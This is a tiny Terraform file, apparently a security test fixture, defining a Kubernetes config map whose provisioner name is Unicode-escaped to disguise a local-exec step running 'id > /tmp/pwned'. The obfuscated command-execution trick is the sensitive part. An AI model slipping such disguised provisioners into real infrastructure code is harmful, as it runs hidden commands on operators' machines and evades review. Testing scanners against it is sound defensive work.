resource "kubernetes_config_map" "cm" {
  metadata {
    name = "demo"
  }
  data = {
    a = "b"
  }
  provisioner "local\u002dexec" {
    command = "id > /tmp/pwned"
  }
}
